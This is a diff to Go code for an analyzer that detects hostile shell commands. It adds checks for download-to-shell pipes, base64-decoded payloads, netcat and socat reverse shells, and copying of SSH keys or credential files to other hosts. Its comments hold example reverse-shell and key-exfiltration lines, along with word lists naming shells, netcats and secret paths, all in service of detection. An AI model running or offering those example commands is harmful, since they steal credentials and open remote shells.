@@ -37,31 +37,42 @@ var programSuffixes = []string{"exe", "traditional", "openbsd"}
 // "restmethod" after "Invoke-") and their aliases.
 var downloads = []string{"curl", "wget", "iwr", "irm", "webrequest", "restmethod"}
 
+// shells are the programs that run commands a netcat hands them ("nc -c
+// bash …"; cmd for Windows' "cmd.exe").
+var shells = []string{"bash", "sh", "zsh", "dash", "ksh", "cmd", "powershell", "pwsh"}
+
+// netcats are the programs that read from and write to another machine
+// as a pipe's end ("nc host 4444 | sh", "sh -i 2>&1 | nc host 4444").
+var netcats = []string{"nc", "ncat", "netcat", "telnet"}
+
 // option is an option of a command as codeWords writes it: its name, in
 // lower case, with its parts ("upload-file"); for one letter, its case
-// ("F" is curl's "-F", not its "-f"); and, written with a final '@', that
-// it counts only before a value that begins with '@' ("-F file=@/tmp/x"
-// sends a file, "-F name=alice" a form's field).
+// ("F" is curl's "-F", not its "-f"); written with a final '@', that it
+// counts only before a value that begins with '@' ("-F file=@/tmp/x"
+// sends a file, "-F name=alice" a form's field); written with a final
+// '!', only before a shell's name (shells: traditional netcat's "-c
+// bash" runs it, GNU netcat's "-c" closes the connection, BSD nc's ends
+// lines with CRLF).
 type option struct {
-	name    string
-	upper   bool
-	needsAt bool
+	name       string
+	upper      bool
+	needsAt    bool
+	needsShell bool
 }
 
 // parseOption reads an option as codeWords writes it.
 func parseOption(s string) option {
 	name, at := strings.CutSuffix(s, "@")
-	return option{name: strings.ToLower(name), upper: name != strings.ToLower(name), needsAt: at}
+	name, sh := strings.CutSuffix(name, "!")
+	return option{name: strings.ToLower(name), upper: name != strings.ToLower(name), needsAt: at, needsShell: sh}
 }
 
 // commandBreak reports whether a shell command ends before word k: at a
 // pipe, "||", "&&" or ';', at a line break that neither a backslash nor a
 // pipe continues, or at a sentence's end (a full stop, a question or an
-// exclamation mark, then a space).
+// exclamation mark, then a space: not "cat ~/.ssh/config").
 func (z *Analyzer) commandBreak(k int) bool {
-	w := &z.words[k]
-	return w.shell&(shellPipe|shellSeparator|shellLine) != 0 ||
-		w.shell&shellSpace != 0 && (w.prev == '.' || w.prev == '?' || w.prev == '!')
+	return z.words[k].shell&(shellPipe|shellSeparator|shellLine|shellStop) != 0
 }
 
 // command returns the bounds [b, e) of the shell command that holds word
@@ -98,15 +109,22 @@ func (z *Analyzer) isOption(k int) bool {
 }
 
 // optionIs reports whether the option that begins at word k, in a command
-// that ends at e, is o: one letter in its case, or every part of a longer
-// name, joined by '-' as written ("--upload-file", not "--data-raw" for
-// "data"); with a value that begins with '@' when o needs one.
+// that ends at e, is o: one letter in its case, alone or, in lower case
+// and with no '@' to need, among a few run together ("-nve" holds "-e"),
+// or every part of a longer name, joined by '-' as written
+// ("--upload-file", not "--data-raw" for "data"); with a value that
+// begins with '@', or a shell's name, when o needs one.
 func (z *Analyzer) optionIs(k, e int, o option) bool {
 	w := &z.words[k]
 	t := z.tok(k)
 	end := k + 1 // after the option's name
 	if len(o.name) == 1 {
-		if len(t) != 1 || t[0] != o.name[0] || w.upper != o.upper {
+		alone := len(t) == 1 && t[0] == o.name[0] && w.upper == o.upper
+		// "-XPOST" holds curl's "-T" only by its case, "-sd" a "-d"
+		// that needs its '@': letters run together count only in lower
+		// case, for options with no '@' to need.
+		together := !o.upper && !o.needsAt && !w.upper && z.letterRun(k, e) && bytes.IndexByte(t, o.name[0]) >= 0
+		if !alone && !together {
 			return false
 		}
 	} else {
@@ -126,6 +144,9 @@ func (z *Analyzer) optionIs(k, e int, o option) bool {
 	if end < e && z.words[end].joint == '-' && z.words[end].shell&shellSpace == 0 {
 		return false // a longer name: "--data-raw", "--post-data"
 	}
+	if o.needsShell {
+		return z.namesShell(z.shellWordEnd(k, e), e)
+	}
 	if !o.needsAt {
 		return true
 	}
@@ -140,6 +161,28 @@ func (z *Analyzer) optionIs(k, e int, o option) bool {
 		}
 	}
 	return false
+}
+
+// letterRun reports whether word k, in a command that ends at e, is a
+// whole shell word of a few letters ("nve" of "-nve", at most maxLetters;
+// not "-p4444", "-o-" or "-x.y").
+func (z *Analyzer) letterRun(k, e int) bool {
+	return z.words[k].letters == len(z.tok(k)) && len(z.tok(k)) <= maxLetters && z.shellWordEnd(k, e) == k+1
+}
+
+// namesShell reports whether the shell word that begins at word k, in a
+// command that ends at e, names a shell (shells), by its name or its path:
+// "bash", "/bin/sh", "cmd.exe".
+func (z *Analyzer) namesShell(k, e int) bool {
+	if k >= e {
+		return false
+	}
+	end := z.shellWordEnd(k, e)
+	last := end - 1
+	if last > k && z.words[last].joint == '.' && hasWord(programSuffixes, z.tok(last)) {
+		last-- // "cmd.exe"
+	}
+	return (last == k || z.words[last].joint == '/') && hasWord(shells, z.tok(last))
 }
 
 // wholeName reports whether word i stands as a whole name, not a part of a
@@ -191,29 +234,213 @@ func (z *Analyzer) programAt(i, b int) bool {
 	return true
 }
 
-// runsDownload reports whether word i is an interpreter that runs a
-// download as its program: substitutesDownload, or a download command
-// pipes into it ("curl -s https://… | bash", "wget -qO- … | sudo sh", "iwr
-// … | iex"), unless one of own, its options for code of its own ("-c" of a
-// shell, "-m" of Python, "-e" of Perl), or a script file as its first
-// argument tells it to run something else ("| python3 -m json.tool", "|
-// perl -ne …", "| python3 parse.py"; "| python - data.csv" runs what it
-// reads).
+// maxPipeline bounds how many commands before it in a pipeline
+// runsDownload looks through for the download an interpreter runs ("curl
+// … | grep -v '#' | tr -d '\r' | bash").
+const maxPipeline = 4
+
+// maxSteps bounds how many commands before it savedBefore looks through
+// for the download that saved a file ("curl -o x.sh …; cd /tmp; ls;
+// chmod +x x.sh").
+const maxSteps = 4
+
+// runsDownload reports whether word i is an interpreter that runs code it
+// was not shown as its program: substitutesDownload; or a download, a
+// decoded blob or a connection to another machine pipes into it, in the
+// command before it or a few before that ("curl -s https://… | bash",
+// "wget -qO- … | sudo sh", "iwr … | iex", "curl … | grep -v '#' | sh",
+// "echo … | base64 -d | sh", "nc host 4444 | /bin/sh"); or its output
+// goes to another machine ("/bin/sh -i 2>&1 | nc host 4444"); or its
+// script is a file a download saved a few commands before ("curl -o
+// x.sh https://…/x.sh && bash x.sh"). Not when one of own, its options
+// for code of its own ("-c" of a shell, "-m" of Python, "-e" of Perl), or
+// a script file as its first argument tells it to run something else
+// ("| python3 -m json.tool", "| perl -ne …", "| python3 parse.py"; "|
+// python - data.csv" runs what it reads).
 func (z *Analyzer) runsDownload(i int, own []option) bool {
 	b, e := z.command(i)
 	if z.wholeName(i) && z.substitutes(i, e) { // substitutesDownload, with the command found once
 		return true
 	}
-	if s := z.words[b].shell; s&shellPipe == 0 || s&shellLine != 0 || b == 0 || !z.programAt(i, b) || z.ownCode(i, e, own) {
-		return false // not piped (or a table's row: "\n| bash |"), or piped into another program ("| sudo tee …/bash_completion.d/x")
+	if !z.programAt(i, b) {
+		return false
 	}
-	// A download in the command before the pipe, with something to fetch
-	// (not "| curl | bash |"). A prose sentence may lead into it ("Fetch
-	// and run the helper: curl -s https://… | bash"), so it need not be
-	// that command's first word.
-	pb, pe := z.command(b - 1)
-	for k := pb; k < pe; k++ {
-		if hasWord(downloads, z.tok(k)) && z.wholeName(k) && z.shellWordEnd(k, pe) < pe {
+	if k := z.firstArgument(i, e); k < e && z.savedBefore(b, k, z.shellWordEnd(k, e)) {
+		return true
+	}
+	if z.ownCode(i, e, own) {
+		return false
+	}
+	if z.pipesOut(e) {
+		return true
+	}
+	// Something that yields code in one of the commands that pipe into
+	// this one (not a table's row: "\n| bash |"). A prose sentence may
+	// lead into it ("Fetch and run the helper: curl -s https://… | bash"),
+	// so it need not be that command's first word.
+	for n, at := 0, b; n < maxPipeline && at > 0; n++ {
+		if s := z.words[at].shell; s&shellPipe == 0 || s&shellLine != 0 {
+			return false // not piped, or piped into another program ("| sudo tee …/bash_completion.d/x")
+		}
+		pb, pe := z.command(at - 1)
+		if z.yieldsCode(pb, pe) {
+			return true
+		}
+		at = pb
+	}
+	return false
+}
+
+// yieldsCode reports whether the command [b, e) writes out code no one
+// has read: a download with something to fetch (not "| curl | bash |"), a
+// decoder ("base64 -d", "xxd -r") or a connection to another machine
+// (netcats).
+func (z *Analyzer) yieldsCode(b, e int) bool {
+	for k := b; k < e; k++ {
+		t := z.tok(k)
+		switch {
+		case !z.wholeName(k) || z.shellWordEnd(k, e) >= e:
+		case hasWord(downloads, t), hasWord(netcats, t):
+			return true
+		case string(t) == "base64":
+			return z.hasOption(k, e, decodeOptions)
+		case string(t) == "xxd":
+			return z.hasOption(k, e, reverseOption)
+		}
+	}
+	return false
+}
+
+// decodeOptions and reverseOption are base64's and xxd's options that
+// decode.
+var (
+	decodeOptions = []option{{name: "d"}, {name: "d", upper: true}, {name: "decode"}}
+	reverseOption = []option{{name: "r"}}
+)
+
+// pipesOut reports whether the command that ends at e pipes into a
+// netcat (netcats), its program ("| nc host 4444", "| sudo nc …").
+func (z *Analyzer) pipesOut(e int) bool {
+	if e >= len(z.words) || z.words[e].shell&shellPipe == 0 || z.words[e].shell&shellLine != 0 {
+		return false
+	}
+	_, ne := z.command(e)
+	for k := e; k < ne && k-e <= maxPrefix; k++ {
+		if hasWord(netcats, z.tok(k)) && z.programAt(k, e) {
+			return true
+		}
+	}
+	return false
+}
+
+// firstArgument returns the first word of the first shell word after word
+// i that is no option, in a command that ends at e, or e.
+func (z *Analyzer) firstArgument(i, e int) int {
+	k := z.shellWordEnd(i, e)
+	for k < e && z.isOption(k) {
+		k = z.shellWordEnd(k, e)
+	}
+	return k
+}
+
+// savedBefore reports whether the file that the shell word [k, end) names
+// is one a download saved in one of the maxSteps commands before the one
+// that begins at word b: in that command, the value of an output option
+// (outputOptions) is that name, or a shell word ends with it after a '/'
+// ("curl -o x.sh …", "wget https://…/x.sh", "curl -O https://…/x.sh" for
+// "bash x.sh", "./x.sh", "/tmp/x.sh"; not "curl is a tool… Perl is").
+func (z *Analyzer) savedBefore(b, k, end int) bool {
+	name := end - 1 // the name's first word: after the path's last '/'
+	for name > k && z.words[name].joint != '/' {
+		name--
+	}
+	n := end - name
+	for steps, at := 0, b; steps < maxSteps && at > 0; steps++ {
+		pb, pe := z.command(at - 1)
+		at = pb
+		if !z.downloadsIn(pb, pe) {
+			continue
+		}
+		output := false // the shell word before is an output option
+		for s := pb; s < pe; {
+			se := z.shellWordEnd(s, pe)
+			from := se - n
+			if from >= s && (from > s && z.words[from].joint == '/' || from == s && output) && z.sameWords(name, from, n) {
+				return true
+			}
+			output = z.isOption(s) && z.isOneOf(s, pe, outputOptions)
+			s = se
+		}
+	}
+	return false
+}
+
+// outputOptions are the options by which a download names the file it
+// saves: curl's "-o" and "--output", wget's "-O" and
+// "--output-document", PowerShell's "-OutFile".
+var outputOptions = []option{{name: "o"}, {name: "o", upper: true}, {name: "output"}, {name: "output-document"}, {name: "outfile"}}
+
+// isOneOf reports whether the option that begins at word k, in a command
+// that ends at e, is one of options (optionIs).
+func (z *Analyzer) isOneOf(k, e int, options []option) bool {
+	for _, o := range options {
+		if z.optionIs(k, e, o) {
+			return true
+		}
+	}
+	return false
+}
+
+// downloadsIn reports whether the command [b, e) holds a download
+// (downloads) as a whole name.
+func (z *Analyzer) downloadsIn(b, e int) bool {
+	for k := b; k < e; k++ {
+		if hasWord(downloads, z.tok(k)) && z.wholeName(k) {
+			return true
+		}
+	}
+	return false
+}
+
+// sameWords reports whether the n words from a and from b are the same
+// words joined the same way.
+func (z *Analyzer) sameWords(a, b, n int) bool {
+	for j := range n {
+		if !bytes.Equal(z.tok(a+j), z.tok(b+j)) || j > 0 && z.words[a+j].joint != z.words[b+j].joint {
+			return false
+		}
+	}
+	return true
+}
+
+// makesRunnable reports whether word i, chmod as the program of its
+// command, makes runnable a file a download saved a few commands before
+// (savedBefore): "curl -o /tmp/p https://… && chmod +x /tmp/p".
+func (z *Analyzer) makesRunnable(i int) bool {
+	b, e := z.command(i)
+	if !z.programAt(i, b) {
+		return false
+	}
+	for k := z.shellWordEnd(i, e); k < e; {
+		end := z.shellWordEnd(k, e)
+		if !z.isOption(k) && z.savedBefore(b, k, end) {
+			return true
+		}
+		k = end
+	}
+	return false
+}
+
+// relays reports whether word i, socat, is given an address of one of
+// kinds, which runs a program ("socat exec:'bash -li',pty
+// tcp:host:4444", "socat TCP:host:4444 SYSTEM:sh").
+func (z *Analyzer) relays(i int, kinds []string) bool {
+	_, e := z.command(i)
+	if !z.wholeName(i) {
+		return false
+	}
+	for k := i + 1; k < e; k++ {
+		if z.words[k].next == ':' && z.words[k].shell&shellSpace != 0 && hasWord(kinds, z.tok(k)) {
 			return true
 		}
 	}
@@ -272,17 +499,104 @@ func (z *Analyzer) ownCode(i, e int, own []option) bool {
 // into the command ("On the box, run nc -e /bin/sh …").
 func (z *Analyzer) sendsAt(i int, options []option) bool {
 	_, e := z.command(i)
+	return z.wholeName(i) && z.hasOption(i, e, options)
+}
+
+// hasOption reports whether one of options (optionIs) follows word i in a
+// command that ends at e.
+func (z *Analyzer) hasOption(i, e int, options []option) bool {
+	for k := i + 1; k < e; k++ {
+		if z.isOption(k) && z.isOneOf(k, e, options) {
+			return true
+		}
+	}
+	return false
+}
+
+// secrets are the words of a path that name a secret: the directories of
+// SSH, cloud and GnuPG keys, a private key's file ("id_rsa"), a login's
+// ("netrc", "pgpass"), a shell's history, a password store's; as a part
+// of a file's name or path (".ssh", "id_rsa", "/etc/shadow",
+// "credentials.db"), not as a word of prose.
+var secrets = []string{"ssh", "aws", "azure", "gcloud", "gnupg", "kube", "netrc", "pgpass", "rsa", "ed25519", "ecdsa",
+	"history", "credentials", "shadow", "kdbx", "keychain"}
+
+// copiesSecret reports whether word i, a copy program (scp, rsync) as a
+// whole name (wholeName), copies a secret (secrets; not a public key,
+// ".pub") to another machine (a shell word with "host:" in it) in its
+// command: "scp ~/.ssh/id_rsa user@host:/tmp/", "rsync -az ~/.gnupg/
+// u@h:/keys/"; not "scp dist/app.tgz deploy@host:/srv/", "scp
+// ~/.ssh/id_rsa.pub host:~/.ssh/authorized_keys", "rsync -a ~/.ssh/
+// /mnt/usb/". A prose sentence may lead into the command ("Then rsync
+// …").
+func (z *Analyzer) copiesSecret(i int) bool {
+	_, e := z.command(i)
 	if !z.wholeName(i) {
 		return false
 	}
-	for k := i + 1; k < e; k++ {
+	secret, remote := false, false
+	for k := z.shellWordEnd(i, e); k < e; {
+		end := z.shellWordEnd(k, e)
 		if !z.isOption(k) {
-			continue
+			switch {
+			case z.remoteIn(k, end):
+				remote = true
+			case z.secretIn(k, end):
+				secret = true
+			}
 		}
-		for _, o := range options {
-			if z.optionIs(k, e, o) {
+		k = end
+	}
+	return secret && remote
+}
+
+// fedSecret reports whether word i, a netcat (netcats) as the program of
+// its command, is given a secret (secretIn) to send: in its command
+// ("nc host 4444 < ~/.ssh/id_rsa") or in one of the commands that pipe
+// into it ("tar czf - ~/.ssh | nc host 7000", "cat /etc/passwd | nc …").
+func (z *Analyzer) fedSecret(i int) bool {
+	b, e := z.command(i)
+	if !z.programAt(i, b) {
+		return false
+	}
+	for n := 0; n <= maxPipeline; n++ {
+		for k := b; k < e; {
+			end := z.shellWordEnd(k, e)
+			if !z.isOption(k) && z.secretIn(k, end) {
 				return true
 			}
+			k = end
+		}
+		if s := z.words[b].shell; b == 0 || s&shellPipe == 0 || s&shellLine != 0 {
+			return false
+		}
+		b, e = z.command(b - 1)
+	}
+	return false
+}
+
+// remoteIn reports whether the shell word [k, end) names a place on
+// another machine: a word followed by ':' ("host:/path", "u@h:").
+func (z *Analyzer) remoteIn(k, end int) bool {
+	for j := k; j < end; j++ {
+		if z.words[j].next == ':' {
+			return true
+		}
+	}
+	return false
+}
+
+// secretIn reports whether the shell word [k, end) is a path with a
+// secret in it (secrets), and no public key (".pub" at its end).
+func (z *Analyzer) secretIn(k, end int) bool {
+	if last := end - 1; last > k && z.words[last].joint == '.' && string(z.tok(last)) == "pub" {
+		return false
+	}
+	for j := k; j < end; j++ {
+		w := &z.words[j]
+		inPath := w.prev == '.' || w.prev == '/' || w.joint == '_' || w.joint == '.' || w.joint == '/'
+		if inPath && hasWord(secrets, z.tok(j)) {
+			return true
 		}
 	}
 	return false
